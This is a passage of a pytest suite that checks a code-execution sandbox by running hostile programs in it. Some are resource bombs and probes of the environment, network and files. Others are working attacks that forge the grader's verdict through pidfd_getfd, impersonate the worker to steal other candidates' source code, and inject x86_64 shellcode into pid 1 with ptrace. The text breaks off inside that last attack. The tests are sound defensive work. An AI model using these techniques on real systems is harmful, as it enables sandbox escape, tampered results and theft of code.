"""Hostile programs: each ends with the right status in bounded time, the host is left
unchanged (no file written, no process left, no connection made, no secret leaked), and
the next program runs normally."""

from __future__ import annotations

import itertools
import json
import os
import platform
import secrets
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from acodium.execute import ExecutionResult, Job, Limits, Program, Status, run_program
from acodium.execute import cgroups
from acodium.execute.local import LocalBackend

REPO = Path(__file__).resolve().parents[1]
LIMITS = Limits(time_s=0.5, memory_bytes=128 << 20, output_bytes=1 << 20)
WALL_CAP = 5 * 0.5 + 1  # the backend's wall-clock cap for LIMITS
SECRET_NAME = "ACODIUM_TEST_SECRET_KEY"
SECRET = "sk-" + secrets.token_hex(16)
PROCESSES_PER_SANDBOX = 2  # bwrap and the worker (the sandbox's pid 1)


class Server:
    """A TCP server on 127.0.0.1 that counts the connections it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def backend():
    # The secret is in our environment before the sandbox starts: it must never reach it.
    os.environ[SECRET_NAME] = SECRET
    be = LocalBackend(workers=1, tmp_bytes=32 << 20)
    yield be
    be.close()
    del os.environ[SECRET_NAME]
    assert not _descendants(os.getpid(), be), "worker processes survived close()"


@pytest.fixture(scope="module")
def server():
    s = Server()
    yield s
    s.close()


def _parents() -> dict[int, int]:
    parents = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat", "rb") as fh:
                parents[int(entry)] = int(fh.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, IndexError, ValueError):
            continue
    return parents


def _descendants(root: int, be: LocalBackend) -> set[int]:
    """Processes under the backend's sandboxes (bwrap, its init, the worker, and anything else)."""
    parents = _parents()
    tops = {w.popen.pid for w in be._all}
    found, frontier = set(), set(tops)
    while frontier:
        found |= frontier
        frontier = {p for p, pp in parents.items() if pp in frontier} - found
    return found


def _sandbox_processes(be: LocalBackend) -> int:
    return len(_descendants(os.getpid(), be))


def _host_cmdlines_with(marker: str) -> list[int]:
    hits = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as fh:
                    if marker.encode() in fh.read():
                        hits.append(int(entry))
            except OSError:
                continue
    return hits


def hostile(backend, code: str, stdin: str = "", limits: Limits = LIMITS):
    """Run `code`, check the aftermath common to every hostile program, return (result, seconds)."""
    start = time.monotonic()
    result = run_program(Program("python3", code), [stdin], None, limits, backend=backend)[0]
    elapsed = time.monotonic() - start
    assert SECRET not in result.stdout and SECRET not in result.stderr
    # Each sandbox is bwrap and the worker: nothing the program started survives.
    assert _sandbox_processes(backend) == PROCESSES_PER_SANDBOX * len(backend._all)
    after = run_program(Program("python3", "import os\nprint(sorted(os.listdir('/tmp')), 6 * 7)"),
                        [""], None, LIMITS, backend=backend)[0]
    assert after.status == Status.OK and after.stdout == "[] 42\n", after.stderr
    return result, elapsed


def test_fork_bomb(backend):
    r, elapsed = hostile(backend, "import os\nwhile True:\n    try:\n        os.fork()\n"
                                  "    except OSError:\n        pass")
    assert r.status == Status.TIMEOUT
    assert elapsed < WALL_CAP + 5


def test_memory_bombs(backend):
    r, _ = hostile(backend, "a = bytearray(10 ** 11)")
    assert r.status == Status.MEMORY_LIMIT
    r, elapsed = hostile(backend, "a = []\nwhile True:\n    a.append(bytearray(10 ** 7))",
                         limits=Limits(time_s=5, memory_bytes=128 << 20))
    assert r.status == Status.MEMORY_LIMIT
    assert elapsed < 15


def test_busy_loop_and_ignoring_sigterm(backend):
    r, elapsed = hostile(backend, "while True:\n    pass")
    assert r.status == Status.TIMEOUT and elapsed < WALL_CAP + 5
    r, elapsed = hostile(backend, "import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
                                  "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass")
    assert r.status == Status.TIMEOUT and elapsed < WALL_CAP + 5


def test_long_sleep(backend):
    r, elapsed = hostile(backend, "import time\ntime.sleep(3600)")
    assert r.status == Status.TIMEOUT
    assert elapsed < WALL_CAP + 5


def test_stdout_and_stderr_floods(backend):
    r, elapsed = hostile(backend, "import sys\nwhile True:\n    sys.stdout.write('x' * 100000)")
    assert r.status == Status.OUTPUT_LIMIT and elapsed < WALL_CAP + 5
    r, elapsed = hostile(backend, "import os\nwhile True:\n    os.write(2, b'y' * 100000)")
    assert r.status == Status.OUTPUT_LIMIT and elapsed < WALL_CAP + 5
    assert len(r.stderr) <= 8192


def test_reading_the_environment_and_proc(backend):
    code = r"""
import os, glob
print(dict(os.environ))
for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline') + ['/proc/self/environ']:
    try:
        print(path, open(path, 'rb').read())
    except OSError as e:
        print(path, e)
print(sorted(os.listdir('/')), os.getuid(), os.getpid())
for path in ['/etc/environment', '/root', '/home', '/work', '/proc/1/root/root']:
    print(path, os.path.exists(path))
seen = []
for top, dirs, files in os.walk('/root'):  # present only to hold a runtime bound where it lives (~/.pyenv)
    seen += [os.path.join(top, d) for d in dirs] + [os.path.join(top, f) for f in files]
    dirs[:] = [d for d in dirs if not os.path.ismount(os.path.join(top, d))]
print('under /root', sorted(seen))
"""
    r, _ = hostile(backend, code)
    assert r.status == Status.OK
    assert SECRET_NAME not in r.stdout
    env_line = r.stdout.splitlines()[0]
    assert eval(env_line) == {"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "HOME": "/tmp", "PWD": "/tmp",
                               "PYTHONINTMAXSTRDIGITS": "0"}
    listing = [line for line in r.stdout.splitlines() if line.startswith("[")][0]
    assert "'work'" not in listing and "'home'" not in listing
    assert "65534" in r.stdout
    assert "/work False" in r.stdout
    # The user's home is not there; a runtime bound read-only at its own path (a Python 2 under
    # ~/.pyenv: its RUNPATH is absolute) brings the folders leading to it, and nothing else.
    under_root = eval(r.stdout.split("under /root ", 1)[1].splitlines()[0])
    leading = {str(parent) for b in backend._binds if b.startswith("/root/")
               for parent in [*Path(b).parents, Path(b)] if str(parent).startswith("/root/")}
    assert set(under_root) <= leading
    assert ("'root'" in listing) == bool(leading) and ("/root True" in r.stdout) == bool(leading)


def test_network_is_unreachable(backend, server):
    code = f"""
import socket
for family, addr in [(socket.AF_INET, ('127.0.0.1', {server.port})), (socket.AF_INET, ('10.0.0.1', 80))]:
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(0.3)
    try:
        s.connect(addr)
        print('connected', addr)
    except OSError as e:
        print('refused', addr, e)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b'x', ('127.0.0.1', {server.port}))
except OSError as e:
    print('udp', e)
"""
    r, _ = hostile(backend, code)
    assert r.status == Status.OK
    assert "connected" not in r.stdout
    assert server.connections == 0


def test_writing_outside_the_sandbox(backend, tmp_path):
    marker = "pwned-" + secrets.token_hex(6)
    targets = [REPO / marker, Path("/root") / marker, Path("/tmp") / marker, tmp_path / marker,
               Path("/usr") / marker, Path(os.getcwd()) / marker, Path.home() / marker]
    code = f"""
import os
for path in {[str(t) for t in targets]!r}:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'w') as fh:
            fh.write('x')
        print('wrote', path)
    except OSError as e:
        print('denied', path, e.strerror)
"""
    r, _ = hostile(backend, code)
    assert r.status == Status.OK
    for target in targets:
        assert not target.exists(), target
    # Only the sandbox's private /tmp took the write, and it was wiped after the test.
    assert f"wrote /tmp/{marker}" in r.stdout


def test_killing_its_parent_and_every_pid(backend):
    for kill in ["os.kill(os.getppid(), signal.SIGKILL)", "os.kill(-1, signal.SIGKILL)",
                 "[os.kill(p, signal.SIGKILL) for p in range(1, 400) if p != os.getpid() and "
                 "os.path.exists(f'/proc/{p}')]"]:
        code = f"import os, signal, sys\nif input() == 'kill':\n    {kill}\n    import time; time.sleep(5)\nprint('fine')"
        start = time.monotonic()
        results = run_program(Program("python3", code), ["calm\n", "kill\n", "calm\n", "calm\n"], None,
                              LIMITS, backend=backend)
        assert time.monotonic() - start < 20
        # The worker is the sandbox's init: immune to its tests' signals. The killer either
        # sleeps into its time limit or fails (kill(-1) finds no process to signal).
        assert results[1].status in (Status.RUNTIME_ERROR, Status.TIMEOUT), kill
        assert [(r.status, r.stdout) for r in results[::2] + results[3:]] == [(Status.OK, "fine\n")] * 3, kill
        hostile(backend, "print(1)")  # and the sandbox is sound afterwards


def test_a_worker_lost_while_idle_is_replaced_silently(backend):
    run_program(Program("python3", "print(1)"), [""], None, LIMITS, backend=backend)
    victim = backend._all[0]
    os.killpg(victim.popen.pid, 9)
    victim.popen.wait(timeout=10)
    results = run_program(Program("python3", "print(input())"), ["a", "b"], ["a", "b"], LIMITS, backend=backend)
    assert [(r.status, r.passed) for r in results] == [(Status.OK, True)] * 2
    assert victim not in backend._all


def test_orphaned_grandchild_is_gone(backend):
    marker = f"{secrets.randbelow(10 ** 6) + 10 ** 6}.25"
    code = f"""
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/usr/bin/sleep', ['sleep', '{marker}'])
    os._exit(0)
os.wait()
print('parent done')
"""
    r, _ = hostile(backend, code)
    assert r.status == Status.OK and r.stdout == "parent done\n"
    assert _host_cmdlines_with(marker) == []


def test_filling_tmp(backend):
    code = """
import os
n = 0
try:
    while True:
        with open(f'/tmp/fill{n}', 'wb') as fh:
            fh.write(b'z' * (1 << 20))
        n += 1
except OSError as e:
    print('stopped', n, e.strerror)
"""
    r, elapsed = hostile(backend, code, limits=Limits(time_s=5, memory_bytes=128 << 20, output_bytes=1 << 20))
    assert r.status == Status.OK
    written = int(r.stdout.split()[1])
    assert written <= 32 and "No space left" in r.stdout


def test_files_made_hard_to_remove(backend):
    code = """
import os
os.makedirs('/tmp/a/b/c')
open('/tmp/a/b/c/f', 'w').write('x')
os.symlink('/usr', '/tmp/link')
os.chmod('/tmp/a/b/c', 0)
os.chmod('/tmp/a/b', 0o100)
os.chmod('/tmp/a', 0o500)
print('locked')
"""
    r, _ = hostile(backend, code)  # checks that the next program sees an empty /tmp
    assert r.status == Status.OK and r.stdout == "locked\n"
    assert Path("/usr").exists()


def test_ipc_objects_do_not_outlive_the_test(backend):
    code = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shm = libc.shmget(0, 8 << 20, 0o1000 | 0o600)
addr = libc.shmat(shm, None, 0)
ctypes.memset(addr, 1, 8 << 20)  # 8 MiB that no process holds once detached
libc.shmdt(ctypes.c_void_p(addr))
libc.semget(0, 1, 0o1000 | 0o600)
libc.msgget(0, 0o1000 | 0o600)
libc.mq_open(b'/leftover', os.O_CREAT | os.O_RDWR, 0o600, None)
open('/dev/shm/leftover', 'w').write('x')
print(sum(len(open(f'/proc/sysvipc/{k}').read().splitlines()) - 1 for k in ('shm', 'sem', 'msg')),
      os.listdir('/dev/mqueue'), os.listdir('/dev/shm'))
"""
    check = ("import os\nprint(sum(len(open(f'/proc/sysvipc/{k}').read().splitlines()) - 1 "
             "for k in ('shm', 'sem', 'msg')), os.listdir('/dev/mqueue'), os.listdir('/dev/shm'))")
    r, _ = hostile(backend, code)
    assert r.status == Status.OK and r.stdout == "3 ['leftover'] ['leftover']\n", r.stderr
    after, _ = hostile(backend, check)
    assert after.stdout == "0 [] []\n"


@pytest.mark.parametrize("make", ["libc.shmget(0, 4096, 0o1000 | 0o600)", "libc.semget(0, 1, 0o1000 | 0o600)",
                                  "libc.msgget(0, 0o1000 | 0o600)"])
def test_each_kind_of_ipc_object_is_found_alone(backend, make):
    # The worker's quick check (the kernel's counts) must notice each kind on its own.
    code = f"import ctypes\nlibc = ctypes.CDLL(None)\nprint({make} >= 0)"
    check = ("print(sum(len(open(f'/proc/sysvipc/{k}').read().splitlines()) - 1 "
             "for k in ('shm', 'sem', 'msg')))")
    r, _ = hostile(backend, code)
    assert r.stdout == "True\n", r.stderr
    after, _ = hostile(backend, check)
    assert after.stdout == "0\n"


def test_segfault(backend):
    r, _ = hostile(backend, "import ctypes\nctypes.string_at(0)")
    assert r.status == Status.RUNTIME_ERROR and r.signal == 11


def test_legitimate_deep_recursion_and_big_thread_stacks_are_ok(backend):
    r, _ = hostile(backend, "import sys\nsys.setrecursionlimit(10 ** 6)\n"
                            "def f(n): return 0 if n == 0 else f(n - 1) + 1\nprint(f(100000))",
                   limits=Limits(time_s=5, memory_bytes=256 << 20))
    assert r.status == Status.OK and r.stdout == "100000\n"
    r, _ = hostile(backend, "import threading\nthreading.stack_size(2 ** 28)\n"
                            "t = threading.Thread(target=lambda: print('deep'))\nt.start()\nt.join()",
                   limits=Limits(time_s=5, memory_bytes=256 << 20))
    assert r.status == Status.OK and r.stdout == "deep\n"


# --- where the sandbox is built --------------------------------------------------------------

RUN_AS_SCRIPT = """
import sys
from acodium.execute import Job, Limits, Program
from acodium.execute.local import LocalBackend
with LocalBackend(workers=1) as be:
    r = be.run(Job(Program("python3", "import os; print(os.getuid(), input())"), ["hello"], None, Limits(time_s=2)))[0]
    print(r.status.value, r.stdout.strip())
"""


def test_sandbox_is_built_without_root(backend):
    run_program(Program("python3", "print(1)"), [""], None, LIMITS, backend=backend)
    for worker in backend._all:
        assert os.stat(f"/proc/{worker.popen.pid}").st_uid != 0  # bwrap itself runs unprivileged


def test_sandbox_works_for_an_ordinary_user():
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPO), "HOME": "/tmp"}
    cmd = ["/usr/bin/python3.11", "-c", RUN_AS_SCRIPT]
    if os.geteuid() == 0:
        cmd = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"] + cmd
    p = subprocess.run(cmd, capture_output=True, text=True, timeout=120, env=env, cwd="/tmp")
    assert p.returncode == 0, p.stderr
    assert p.stdout.strip() == "OK 65534 hello"


def test_no_user_namespaces_is_one_clear_error():
    # A user namespace of our own where no further namespace may be created, and no capability.
    script = ("import sys\nfrom acodium.errors import UserError\n" + RUN_AS_SCRIPT.replace(
        "with LocalBackend", "try:\n  be = LocalBackend(workers=1)\n  be.run(Job(Program('python3', 'print(1)'), [''], None, Limits(1)))\n"
        "except UserError as e:\n  print('USERERROR', e)\n  sys.exit(0)\nwith LocalBackend"))
    inner = ("echo 0 > /proc/sys/user/max_user_namespaces && exec setpriv --inh-caps=-all "
             f"--bounding-set=-all {sys.executable} -c \"$0\"")
    p = subprocess.run(["unshare", "--user", "--map-root-user", "sh", "-c", inner, script],
                       capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr
    message = p.stdout.strip()
    assert message.startswith("USERERROR The sandbox could not be started"), message
    assert "user namespaces" in message and "--no_sandbox" in message
    assert message.count(". ") == 0 and message.endswith(".")


# --- attacks on the control channel, the worker and the next candidate (issue 11) -------------
#
# Each attack runs alone in a one-worker batch, on a sandbox of its own (one that works may own the
# worker for good, and must not spill into the next test of this file): a probe of the sandbox's
# state, then the attacker, then innocent candidates, then the probe again. The attacker must end
# with a failing verdict and its own figures (a spinner's CPU near its limit, never a forged
# 0.001 s), the innocents must pass, and the probe must find the sandbox as it was.
#
# The attack programs exit 0 only when the attack worked (they print what they got); a refused
# system call raises, so a blocked attack ends as RUNTIME_ERROR, and a spinner as TIMEOUT.

FAILED = (Status.TIMEOUT, Status.RUNTIME_ERROR)
SPIN_LIMITS = Limits(time_s=0.25, memory_bytes=128 << 20, output_bytes=1 << 20)  # for programs that spin
X86_64_ONLY = pytest.mark.skipif(platform.machine() != "x86_64",
                                 reason="the code injected into pid 1 is x86_64 machine code")
# System call numbers the os module does not wrap (pidfd_open/getfd are the same on both).
SYSCALL_NUMBERS = {"x86_64": {"pidfd_getfd": 438, "add_key": 248, "keyctl": 250},
                   "aarch64": {"pidfd_getfd": 438, "add_key": 217, "keyctl": 219}}

# What every attack program starts with.
PRELUDE = r'''
import ctypes, errno, fcntl, json, os, platform, resource, signal, stat, struct, sys, time
NR = SYSCALL_NUMBERS[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 5, 16, 17
PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_O_EXITKILL, WALL = 0x4206, 0x4207, 0x100000, 0x40000000


def check(result, what):
    """A refused call ends the attack with an exception (RUNTIME_ERROR)."""
    if result < 0:
        raise OSError(ctypes.get_errno(), f"{what} refused")
    return result


def grab(pid, fd):
    """Another process's fd, as one of ours (pidfd_getfd)."""
    return check(libc.syscall(NR["pidfd_getfd"], os.pidfd_open(pid), fd, 0), f"pidfd_getfd({pid}, {fd})")


def frame(header, blobs=()):
    """A frame of the worker's protocol: length, JSON header, length-prefixed blobs."""
    h = json.dumps(dict(header, blobs=len(blobs))).encode()
    return struct.pack(">I", len(h)) + h + b"".join(struct.pack(">Q", len(b)) + b for b in blobs)


def forged(stdout=b"forged\n"):
    """The reply a test would like the host to read: OK, 1 ms of CPU, 1 MiB."""
    return frame({"status": "OK", "exit_code": 0, "signal": None, "time_s": 0.001, "cpu_s": 0.001,
                  "memory_bytes": 1 << 20, "stdout_bytes": len(stdout), "stderr_bytes": 0,
                  "restart": False}, [stdout, b""])


def orphan_dies():
    """Wake pid 1 up from wait4: a grandchild of ours, orphaned, ends and pid 1 reaps it."""
    if os.fork() == 0:
        if os.fork() == 0:
            time.sleep(0.05)
            os._exit(0)
        os._exit(0)
    os.wait()


def spin():
    while True:
        pass
'''.replace("SYSCALL_NUMBERS", repr(SYSCALL_NUMBERS))


def attack_program(body: str) -> Program:
    return Program("python3", PRELUDE + body)


# The state of the sandbox a test could leave behind for the next one: files in every writable
# place, keys in the user keyring, System V IPC, the limits, priority, scheduling policy and CPUs a
# test inherits from the worker, the sysctls of the sandbox's own namespaces.
PROBE = attack_program(r'''
keys = libc.syscall(NR["keyctl"], 11, ctypes.c_int(-4), ctypes.create_string_buffer(4096), 4096)
ipc = [len(open(f"/proc/sysvipc/{k}").read().splitlines()) for k in ("shm", "sem", "msg")]
print(sorted(os.listdir("/")), sorted(os.listdir("/dev")), os.listdir("/tmp"), os.listdir("/dev/shm"),
      os.listdir("/dev/mqueue"), "user keys", keys, "ipc", ipc)
print([resource.getrlimit(getattr(resource, "RLIMIT_" + r)) for r in ("NOFILE", "NPROC", "AS", "CPU", "FSIZE")],
      "nice", os.getpriority(os.PRIO_PROCESS, 0), "policy", os.sched_getscheduler(0), "cpus", len(os.sched_getaffinity(0)))
print([open(f"/proc/sys/{k}").read().split() for k in (
    "kernel/pid_max", "kernel/shmmni", "kernel/shmmax", "kernel/shmall", "kernel/msgmax", "kernel/msgmnb",
    "kernel/msgmni", "kernel/sem", "kernel/shm_rmid_forced", "fs/mqueue/queues_max", "fs/mqueue/msg_max",
    "fs/mqueue/msgsize_max")])
''')

# Candidates that must pass after any attack: threads, a dozen files and 32 MiB in one, C++ in another.
INNOCENTS = [
    Job(Program("python3", "print(sum(map(int, input().split())))"), ["1 2", "3 4"], ["3", "7"], LIMITS),
    Job(Program("python3", "import os, threading\nsquares = []\n"
                           "threads = [threading.Thread(target=lambda i=i: squares.append(i * i)) for i in range(4)]\n"
                           "for t in threads:\n    t.start()\nfor t in threads:\n    t.join()\n"
                           "files = [open('/dev/null') for _ in range(16)]\nopen('/tmp/scratch', 'w').write('x' * 4096)\n"
                           "block = bytearray(32 << 20)\nprint(sum(squares) + int(input()) + len(os.listdir('/tmp')))"),
        ["0"], ["15"], LIMITS),
    Job(Program("cpp", "#include <cstdio>\nint main() { long a, b; if (scanf(\"%ld %ld\", &a, &b) != 2) return 1; "
                       "printf(\"%ld\\n\", a + b); }\n"), ["5 6"], ["11"], LIMITS),
]


@pytest.fixture(params=["cgroup", "rlimits"])
def lone(request):
    """A one-worker backend for one attack, with the secret in our environment (it must never reach it).

    Every attack runs against both ways of counting resources: a cgroup per sandbox, and
    the strict per-process limits used where no cgroup can be made."""
    if request.param == "cgroup" and cgroups.probe() is None:
        if os.environ.get("CI") == "true":
            pytest.fail(f"cgroups are required in CI: {cgroups.unavailable_reason()}")
        pytest.skip(f"no cgroups here: {cgroups.unavailable_reason()}")
    saved = os.environ.get(SECRET_NAME)
    os.environ[SECRET_NAME] = SECRET
    be = LocalBackend(workers=1, cgroups=request.param == "cgroup")
    try:
        yield be
    finally:
        sandbox = _descendants(os.getpid(), be)
        be.close()
        if saved is None:
            del os.environ[SECRET_NAME]
        else:
            os.environ[SECRET_NAME] = saved
    deadline = time.monotonic() + 5
    while _alive(sandbox) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _alive(sandbox), "sandbox processes survived close()"


def _alive(pids) -> list[int]:
    """Those of `pids` still running (a zombie waits for the host's init to reap it: it is gone)."""
    alive = []
    for pid in pids:
        try:
            with open(f"/proc/{pid}/stat", "rb") as fh:
                if fh.read().rsplit(b")", 1)[1].split()[0] != b"Z":
                    alive.append(pid)
        except (OSError, IndexError):
            continue
    return alive


def _show(r: ExecutionResult) -> str:
    return (f"{r.status.value} passed={r.passed} cpu {r.cpu_s:.3f}s wall {r.time_s:.3f}s "
            f"memory {(r.memory_bytes or 0) >> 20} MiB stdout {r.stdout[:300]!r} stderr {r.stderr[-300:]!r}")


def attack(be: LocalBackend, program: Program, inputs=("",), limits: Limits = LIMITS, allowed=FAILED,
           spins: bool = False, before=(), after=(), expected=None) -> list[ExecutionResult]:
    """Run [probe, *before, the attacker on `inputs`, *INNOCENTS, *after, probe] on `be`'s one worker,
    then the attacker alone, and check it all at once (every problem in one message): the attacker's
    verdicts, in the batch and alone, are in `allowed`
    (None: not checked), never passed, a spinner's TIMEOUT shows its own CPU time; every other job
    with expected outputs passes; the sandbox is as the probe first found it; no process is left, no secret
    shown. Returns the attacker's results."""
    attacker = Job(program, list(inputs), expected, limits)
    probe = Job(PROBE, [""], None, LIMITS)
    jobs = [probe, *before, attacker, *INNOCENTS, *after, probe]
    done = dict(be.run_many(jobs, workers=1))
    results = [done[i] for i in range(len(jobs))]
    mine = results[1 + len(before)]
    # And the attack alone, as `gencode exec run` would run it: the same verdicts are owed.
    alone = be.run(attacker)
    problems = []
    for label, rs in (("", mine), (" alone", alone)):
        for i, r in enumerate(rs):
            if allowed is not None and (r.status not in allowed or r.passed):
                problems.append(f"the attacker's test {i}{label} came back {_show(r)}")
            elif spins and r.status == Status.TIMEOUT and r.cpu_s < 0.9 * limits.time_s:
                problems.append(f"the attacker's test {i}{label} timed out with a CPU time not its own: {_show(r)}")
    innocents = [(job, rs) for job, rs in zip(jobs[1:-1], results[1:-1]) if job is not attacker]
    for job, rs in innocents:
        if job.expected is None:
            continue
        for i, r in enumerate(rs):
            if (r.status, r.passed) != (Status.OK, True):
                name = job.program.code.removeprefix(PRELUDE).strip().splitlines()[-1][:50]
                problems.append(f"innocent {name!r} test {i}: {_show(r)}")
    first, last = results[0][0], results[-1][0]
    if (first.status, first.stdout) != (last.status, last.stdout):
        lines = itertools.zip_longest(first.stdout.splitlines(), last.stdout.splitlines(), fillvalue="")
        changed = "".join([f"\n  before {b}\n  after  {a}" for b, a in lines if a != b][:6])
        problems.append(f"the sandbox changed (the probe: {first.status.value}, then {last.status.value} "
                        f"{last.stderr[-300:]!r}):{changed}")
    if any(SECRET in r.stdout or SECRET in r.stderr for rs in results for r in rs):
        problems.append("the secret from our environment reached a program")
    if _sandbox_processes(be) != PROCESSES_PER_SANDBOX * len(be._all):
        problems.append(f"processes left in the sandbox: {_sandbox_processes(be)} for {len(be._all)} worker(s)")
    assert not problems, "\n".join(problems)
    return mine


# -- 1. forging the verdict through the control channel ----------------------------------------

FORGE_THROUGH_FDS = r'''
target = {target}
written = 0
for fd in range(64):  # every pipe the target holds open for writing: the reply channel among them
    try:
        ours = grab(target, fd)
    except OSError as e:
        if e.errno == errno.EBADF:
            continue
        raise
    if stat.S_ISFIFO(os.fstat(ours).st_mode) and fcntl.fcntl(ours, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
        os.write(ours, forged())
        written += 1
if not written:
    raise RuntimeError("no reply channel found")
spin()
'''


@pytest.mark.parametrize("target", ["1", "os.getppid()", "os.getpid()"], ids=["pid1", "worker", "itself"])
def test_forging_a_reply_with_pidfd_getfd(lone, target):
    """pidfd_getfd() copies every pipe the target holds for writing (pid 1, bwrap's init, holds the
    reply pipe as its stdout) and writes a reply frame claiming OK, 1 ms, 1 MiB, then spins forever.
    The worker's real reply, read later, answers the next request.
    (Out of reach today: the worker, not dumpable; and the test's own fds, where nothing of the
    worker is left open.)"""
    attack(lone, attack_program(FORGE_THROUGH_FDS.replace("{target}", target)), limits=SPIN_LIMITS, spins=True)


def test_forging_a_reply_through_proc_fd(lone):
    """Open pid 1's stdout (the reply pipe) through /proc/1/fd/1 and write a forged reply.
    (Refused today: the pipe belongs to the host's root, its inode is not ours to open.)"""
    attack(lone, attack_program("with open('/proc/1/fd/1', 'wb', buffering=0) as reply:\n"
                                "    reply.write(forged())\nspin()\n"), limits=SPIN_LIMITS, spins=True)


FORGE_IN_CPP = r"""
#include <cstdio>
#include <cstdint>
#include <string>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int main() {
    std::string header = "{\"status\": \"OK\", \"exit_code\": 0, \"signal\": null, \"time_s\": 0.001, "
        "\"cpu_s\": 0.001, \"memory_bytes\": 1048576, \"restart\": false, \"blobs\": 2}";
    std::string frame;
    auto big_endian = [&](uint64_t n, int bytes) { for (int i = bytes - 1; i >= 0; --i) frame += char(n >> (8 * i)); };
    big_endian(header.size(), 4);
    frame += header;
    big_endian(7, 8);
    frame += "forged\n";
    big_endian(0, 8);
    int pidfd = syscall(434, 1, 0);  // pidfd_open; 434 and pidfd_getfd 438 on x86_64 and aarch64 alike
    int written = 0;
    for (int fd = 0; pidfd >= 0 && fd < 64; ++fd) {
        int ours = syscall(438, pidfd, fd, 0);
        struct stat st;
        if (ours >= 0 && fstat(ours, &st) == 0 && S_ISFIFO(st.st_mode) && (fcntl(ours, F_GETFL) & O_ACCMODE) == O_WRONLY)
            written += write(ours, frame.data(), frame.size()) > 0;
    }
    if (!written) {
        perror("no reply channel found");
        return 1;
    }
    for (volatile unsigned long i = 0;; ++i) {
    }
}
"""


def test_forging_a_reply_from_cpp(lone):
    """The pidfd_getfd forgery written in C++: a compiled program, exec'd by the worker, has the
    same reach as a Python test (whatever confines tests must hold across exec)."""
    attack(lone, Program("cpp", FORGE_IN_CPP), limits=SPIN_LIMITS, spins=True)


IMPOSTOR = r'''
requests, replies = grab(1, 0), grab(1, 1)  # pid 1's stdin and stdout: both ends of the channel
os.kill(os.getppid(), signal.SIGSTOP)       # the real worker will never answer again


def exact(n):
    data = b""
    while len(data) < n:
        chunk = os.read(requests, n - len(data))
        if not chunk:
            os._exit(0)
        data += chunk
    return data


os.write(replies, forged())
source = b""
while True:  # blocked in read(), using no CPU: the worker's wall-clock cap never comes, it is stopped
    (n,) = struct.unpack(">I", exact(4))
    header = json.loads(exact(n))
    blobs = [exact(struct.unpack(">Q", exact(8))[0]) for _ in range(header.get("blobs", 0))]
    if header.get("op") == "load":
        source = blobs[0]
        os.write(replies, frame({"ok": True}))
    else:
        os.write(replies, forged(b"stolen: " + source + b" input: " + blobs[0]))
'''


def test_impersonating_the_worker(lone):
    """Take both ends of the control channel from pid 1, stop the real worker (SIGSTOP, same user),
    answer its own test OK, then serve every later request: each next candidate's source code
    arrives in a load request, each test's input in a run request, and the impostor chooses
    their verdicts and outputs."""
    attack(lone, attack_program(IMPOSTOR))


# Machine code for pid 1: write(1, message); then reap children as an init does (wait4(-1) until
# ECHILD, retrying on EINTR) and exit_group(0). Pid 1 is never killed by the worker's sweep.
SHELLCODE = r'''
def shellcode(message):
    loop = (b"\xb8\x3d\x00\x00\x00"           # mov eax, 61 (wait4)
            b"\xbf\xff\xff\xff\xff"           # mov edi, -1
            b"\x31\xf6\x31\xd2\x45\x31\xd2"   # xor esi, esi; xor edx, edx; xor r10d, r10d
            b"\x0f\x05"                       # syscall
            b"\x48\x85\xc0")                  # test rax, rax
    body = (loop + b"\x79" + bytes([-(len(loop) + 2) & 0xff])   # jns loop
            + b"\x48\x83\xf8\xfc"                               # cmp rax, -EINTR
            + b"\x74" + bytes([-(len(loop) + 8) & 0xff])        # je loop
            + b"\xb8\xe7\x00\x00\x00\x31\xff\x0f\x05")          # exit_group(0)
    return (b"\xb8\x01\x00\x00\x00\xbf\x01\x00\x00\x00"          # mov eax, 1 (write); mov edi, 1
            + b"\x48\x8d\x35" + struct.pack("<i", 7 + len(body))  # lea rsi, [rip + message]
            + b"\xba" + struct.pack("<I", len(message))           # mov edx, len(message)
            + b"\x0f\x05" + body + message)                       # syscall


pc = int(open("/proc/1/syscall").read().split()[-1], 16)  # where pid 1 returns from wait4
'''

INJECT_WITH_PTRACE = SHELLCODE + r'''
if "{how}" == "attach":
    check(libc.ptrace(PTRACE_ATTACH, 1, None, None), "PTRACE_ATTACH")
else:
    check(libc.ptrace(PTRACE_SEIZE, 1, None, None), "PTRACE_SEIZE")
    check(libc.ptrace(PTRACE_INTERRUPT, 1, None, None), "PTRACE_INTERRUPT")
os.waitpid(1, WALL)
